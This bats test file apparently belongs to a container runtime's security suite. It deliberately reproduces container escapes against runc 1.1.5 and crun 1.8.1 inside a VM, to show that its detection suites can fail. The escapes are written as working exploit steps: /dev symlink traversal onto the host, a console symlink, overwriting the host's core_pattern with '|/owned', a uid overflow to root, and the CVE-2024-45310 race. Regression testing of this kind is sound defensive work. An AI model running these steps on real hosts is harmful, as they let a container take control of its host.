#!/usr/bin/env bats
# The attacks of this directory on runtimes that are known to have the bug: Debian's runc 1.1.5 and
# crun 1.8.1. Here an attack must succeed. That shows that the suites beside this one can fail.
# The effects stay in the throw-away machine: never run this anywhere else.
# where: vm

# shellcheck disable=SC2034 # variables are for helpers.bash

load ../cli/helpers
load ../cli/tools
load attack

setup_file() {
	need_vm
	need_attack
}

setup() {
	need_vm
	test_setup
	make_bundle
	make_canary
	core_pattern=$(cat /proc/sys/kernel/core_pattern)
	# What they understand.
	edit_config '.ociVersion = "1.0.2" | del(.linux.seccomp)'
}

teardown() {
	in_vm || return 0
	echo "$core_pattern" >/proc/sys/kernel/core_pattern
	rm -rf "$TMP/peer"
	test_teardown
}

# peer NAME ARG...: as run_bawn, with a state root of its own.
peer() {
	last_command=$*
	status=0
	timeout -k 5 120 "$1" --root "$TMP/peer" "${@:2}" </dev/null >"$TMP/stdout" 2>"$TMP/stderr" \
		3>&- 4>&- || status=$?
	stdout=$(tr -d '\0' <"$TMP/stdout")
	stderr=$(tr -d '\0' <"$TMP/stderr")
	output=$stdout$'\n'$stderr
}

peer_with_bug() { # NAME VERSION
	need_command "$1"
	[[ $("$1" --version) == *"$1 version $2"* ]] || skip "not $1 $2, which has the bug"
}

# ---- T10, T13: links in the image --------------------------------------------------------------

# dev_link NAME TARGET: the image's /dev is a link, nothing is mounted on it.
dev_link() {
	no_mount /dev /dev/pts /dev/shm /dev/mqueue
	set_args true
	rm -rf "$BUNDLE/rootfs/dev"
	ln -s "$2" "$BUNDLE/rootfs/dev"
	peer "$1" run --bundle "$BUNDLE" "$ID"
	[[ -L $HOST/dir/ptmx || -e $HOST/dir/null ]] ||
		fail "$1 made nothing on the host: $(ls -l "$HOST/dir")" "$(show_last)"
	! assert_canary 2>/dev/null || fail "assert_canary does not see it"
}

@test "T13: runc 1.1.5 fills a host directory that /dev leads to: absolute link" {
	peer_with_bug runc 1.1.5
	dev_link runc "$HOST/dir"
}

@test "T13: runc 1.1.5: relative link" {
	peer_with_bug runc 1.1.5
	dev_link runc "../../../../../../../..$HOST/dir"
}

@test "T13: crun 1.8.1 fills a host directory that /dev leads to: absolute link" {
	peer_with_bug crun 1.8.1
	dev_link crun "$HOST/dir"
}

@test "T13: crun 1.8.1: relative link" {
	peer_with_bug crun 1.8.1
	dev_link crun "../../../../../../../..$HOST/dir"
}

@test "T10: crun 1.8.1 makes a host file that /dev/console leads to" {
	peer_with_bug crun 1.8.1
	no_mount /dev /dev/pts /dev/shm /dev/mqueue
	set_args true
	edit_config '.process.terminal = true | .mounts += [{destination: "/dev/pts", type: "devpts",
		source: "devpts", options: ["newinstance", "ptmxmode=0666", "mode=0620"]}]'
	rm -rf "$BUNDLE/rootfs/dev"
	mkdir "$BUNDLE/rootfs/dev"
	ln -s "$HOST/new" "$BUNDLE/rootfs/dev/console"
	timeout 100 "$tool_dir/ptyrun" crun --root "$TMP/peer" run --bundle "$BUNDLE" "$ID" \
		</dev/null >"$TMP/stdout" 2>&1 3>&- 4>&- || true
	[[ -e $HOST/new ]] || fail "crun made nothing on the host: $(cat "$TMP/stdout")"
	! assert_canary 2>/dev/null || fail "assert_canary does not see it"
}

# ---- T16: masks --------------------------------------------------------------------------------

# masked_by NAME: /dev is the attacker's volume, its null a link to core_pattern.
masked_by() {
	mkdir -p "$TMP/volume"/{pts,shm,mqueue}
	ln -s /proc/sys/kernel/core_pattern "$TMP/volume/null"
	edit_config '.mounts |= map(if .destination == "/dev"
		then {destination: "/dev", source: $volume, options: ["bind"]} else . end)
		| .linux.readonlyPaths = []' --arg volume "$TMP/volume"
	set_args sh -c 'cat /proc/keys; echo "|/owned" >/proc/keys'
	peer "$1" run --bundle "$BUNDLE" "$ID"
}

@test "T16: runc 1.1.5 masks with what the container's /dev/null leads to: core_pattern is set" {
	peer_with_bug runc 1.1.5
	masked_by runc
	assert_equal "$(cat /proc/sys/kernel/core_pattern)" "|/owned"
	assert_output_has "$core_pattern"
}

# ---- T21: numbers ------------------------------------------------------------------------------

@test "T21: runc 1.1.5 takes user 4294967296 for root" {
	peer_with_bug runc 1.1.5
	edit_config '.process.user = {uid: 5, gid: 6}'
	timeout 100 runc --root "$TMP/peer" run --detach --bundle "$BUNDLE" "$ID" </dev/null \
		>/dev/null 2>&1 3>&- 4>&-
	peer runc exec --user 4294967296 "$ID" id -u
	assert_stdout 0
	peer runc delete --force "$ID"
}

# ---- T11: races --------------------------------------------------------------------------------

# Luck: BAWN_TEST_ROUNDS says how long to try; that it was in vain is no failure.
@test "T11: runc 1.1.5 makes directories on the host (CVE-2024-45310)" {
	local i n
	peer_with_bug runc 1.1.5
	n=$(rounds 0 6)
	mkdir -p "$TMP/volume/real"
	ln -s "$HOST/dir" "$TMP/volume/link"
	edit_config '.mounts += [{destination: "/volume", source: $volume, options: ["bind"]}]
		+ ([range(12)] | map({destination: "/volume/real/d\(.)/e/f/g", type: "tmpfs",
			source: "tmpfs"}))' --arg volume "$TMP/volume"
	set_args true
	swap "$TMP/volume/real" "$TMP/volume/link"
	for ((i = 0; i < n; i++)); do
		peer runc run --bundle "$BUNDLE" "$ID-$i"
		assert_canary 2>/dev/null || break
	done
	stop_swap
	((i < n)) || skip "no hit in $n starts"
}
